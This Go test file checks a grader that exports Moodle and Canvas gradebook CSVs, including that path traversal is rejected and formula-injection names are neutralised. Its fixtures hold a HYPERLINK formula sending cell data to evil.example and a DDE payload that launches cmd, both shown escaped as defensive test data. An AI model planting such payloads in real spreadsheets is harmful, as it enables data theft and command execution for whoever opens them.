package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/nma-go/mlp/internal/grader"
)

// readCSV parses a CSV output back; bom says whether it must start with
// the UTF-8 BOM.
func readCSV(t *testing.T, path string, bom bool) [][]string {
	t.Helper()
	data, err := os.ReadFile(path)
	require.NoError(t, err)
	const mark = "\uFEFF"
	assert.Equal(t, bom, bytes.HasPrefix(data, []byte(mark)), "%s: BOM", path)
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(mark)))).ReadAll()
	require.NoError(t, err)
	return rows
}

// capture collects what a run reports.
type capture struct {
	mu    sync.Mutex
	lines []string
}

func (c *capture) logf(format string, args ...any) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.lines = append(c.lines, fmt.Sprintf(format, args...))
}

func (c *capture) text() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return strings.Join(c.lines, "\n")
}

// A Moodle download graded with its roster into Moodle's import: Japanese
// names survive, the formula name is neutralised, the unmatched participant
// and the student without a submission are reported.
func TestGradeMoodleDownload(t *testing.T) {
	if testing.Short() {
		t.Skip("builds grading binaries")
	}
	download := buildLayoutZip(t, "moodle.layout")
	dir := t.TempDir()
	out := filepath.Join(dir, "moodle.csv")
	var c capture
	require.NoError(t, runArgs(t, []string{"-roster", filepath.Join(lmsDir, "roster_moodle.csv"), "-format", "moodle",
		"-moodle-item", "W1D3 MLP 演習", "-out", out, "-workers", "2", "-timeout", "20s", download}, c.logf))

	all := "演習 1: 合格、演習 2: 合格、演習 2.1: 合格、演習 2.3: 合格"
	assert.Equal(t, [][]string{
		{"ID number", "Email address", "Full name", "W1D3 MLP 演習", "W1D3 MLP 演習 (feedback)"},
		{"s2024001", "taro.yamada@example.ac.jp", "山田 太郎", "40", "合計 40 / 40 点。" + all + "。"},
		{"s2024002", "hanako.suzuki@example.ac.jp", "鈴木 花子", "10", "合計 10 / 40 点。演習 1: 合格、演習 2: 未着手、演習 2.1: 不合格、演習 2.3: 未着手。"},
		{"s2024003", "evil@example.ac.jp", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "0",
			"合計 0 / 40 点。演習 1: 不合格、演習 2: 未着手、演習 2.1: 未着手、演習 2.3: 未着手。"},
	}, readCSV(t, out, false))

	gb, err := grader.ReadGradebook(filepath.Join(dir, "moodle.json"))
	require.NoError(t, err)
	require.Len(t, gb.Students, 4, "the unmatched participant is graded too")
	byID := gb.ByStudent()
	unknown := byID["100099"]
	require.NotNil(t, unknown)
	assert.False(t, unknown.Rostered)
	assert.Equal(t, "Unknown Student", unknown.Name)
	assert.Equal(t, 10, unknown.Total, "the notebook's exercise 1")
	assert.Equal(t, []grader.Flag{grader.FlagCompileError}, byID["s2024003"].Flags, "the zip the student uploaded was graded")
	assert.Equal(t, grader.SchemeMoodle, byID["s2024001"].Scheme)
	assert.Equal(t, download, byID["s2024001"].Path)
	require.Len(t, gb.NotSubmitted, 1)
	assert.Equal(t, "s2024004", gb.NotSubmitted[0].ID)
	assert.NotEmpty(t, gb.Roster)

	feedback, err := os.ReadFile(filepath.Join(dir, "feedback", "s2024001.md"))
	require.NoError(t, err)
	assert.Contains(t, string(feedback), "# 採点結果: 山田 太郎 (s2024001)")

	log := c.text()
	assert.Contains(t, log, "集計: 学生 4 人、採点 4 人")
	assert.Contains(t, log, "フラグ: compile-error 1 (s2024003)")
	assert.Contains(t, log, "名簿のどの行とも一致しない提出物 (提出物の名前で採点): 1 (100099)")
	assert.Contains(t, log, "提出物のない名簿の行: 1 (佐藤 次郎 (s2024004))")
	assert.Contains(t, log, "LMS の成績表から外した学生 (照合できる ID がない): 1 (100099)")
	assert.Contains(t, log, "skipped 山田 太郎_100001_assignsubmission_onlinetext_onlinetext.html: not a .go file")
	assert.Contains(t, log, "mywork/pkg/../mlp.go: its path leaves the download")
}

// A Canvas download graded with its roster into Canvas's import, with a
// BOM: the late submission is flagged, the resubmission replaces the first
// upload, and the formula name is neutralised.
func TestGradeCanvasDownload(t *testing.T) {
	if testing.Short() {
		t.Skip("builds grading binaries")
	}
	download := buildLayoutZip(t, "canvas.layout")
	dir := t.TempDir()
	out := filepath.Join(dir, "canvas.csv")
	var c capture
	require.NoError(t, runArgs(t, []string{"-roster", filepath.Join(lmsDir, "roster_canvas.csv"), "-format", "canvas", "-bom",
		"-canvas-assignment", "W1D3 MLP (4242)", "-out", out, "-workers", "2", "-timeout", "20s", download}, c.logf))

	assert.Equal(t, [][]string{
		{"Student", "ID", "SIS User ID", "SIS Login ID", "Section", "W1D3 MLP (4242)"},
		{"    Points Possible", "", "", "", "", "40"},
		{"山田 太郎", "200001", "", "", "", "40"},
		{"鈴木 花子", "200002", "", "", "", "10"},
		{`'@SUM(1+1)*cmd|' /C calc'!A0`, "200003", "", "", "", "20"},
	}, readCSV(t, out, true))

	gb, err := grader.ReadGradebook(filepath.Join(dir, "canvas.json"))
	require.NoError(t, err)
	byID := gb.ByStudent()
	assert.Equal(t, []grader.Flag{grader.FlagLate}, byID["200002"].Flags)
	assert.Equal(t, []string{"evilstudent_200003_300011_relu_approx-1.go", "evilstudent_200003_300012_split.go"}, byID["200003"].Files)
	assert.Empty(t, byID["200003"].Flags, "the replaced upload's compile error is gone")
	require.Len(t, gb.NotSubmitted, 1)
	assert.Equal(t, "200004", gb.NotSubmitted[0].ID)

	log := c.text()
	assert.Contains(t, log, "集計: 学生 3 人、採点 3 人")
	assert.Contains(t, log, "フラグ: late 1 (200002)")
	assert.Contains(t, log, "提出物のない名簿の行: 1 (佐藤 次郎 (200004))")
	assert.NotContains(t, log, "名簿のどの行とも一致しない")

	// The same download in the plain format, without a roster: the names
	// are Canvas's, the keys the Canvas user IDs.
	plain := filepath.Join(dir, "plain.csv")
	require.NoError(t, runArgs(t, []string{"-out", plain, "-workers", "2", "-timeout", "20s", download}, c.logf))
	rows := readCSV(t, plain, false)
	assert.Equal(t, []string{"student", "name", "ex1", "ex2", "ex2.1", "ex2.3", "total", "max", "flags", "error"}, rows[0])
	assert.Equal(t, []string{"200001", "yamadataro", "10", "10", "10", "10", "40", "40", "", ""}, rows[1])
	assert.Equal(t, []string{"200002", "suzukihanako", "10", "0", "0", "0", "10", "40", "late", ""}, rows[2])
	assert.Equal(t, []string{"200003", "evilstudent", "10", "0", "0", "10", "20", "40", "", ""}, rows[3])
	assert.Len(t, rows, 4)
}
